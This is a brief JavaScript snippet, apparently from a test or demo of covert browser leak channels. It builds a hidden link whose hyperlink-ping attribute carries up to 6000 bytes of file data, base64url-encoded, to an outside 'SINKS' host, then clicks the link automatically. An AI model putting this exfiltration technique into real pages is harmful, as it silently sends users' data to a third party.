// A part of the file in the address that is told of a click.
whenMade(({ bytes }) => {
  const link = document.createElement("a");
  link.href = "#done";
  link.ping = `${SINKS.http}/ping?d=${base64url(bytes.slice(0, 6000))}`;
  document.body.append(link);
  link.click();
});
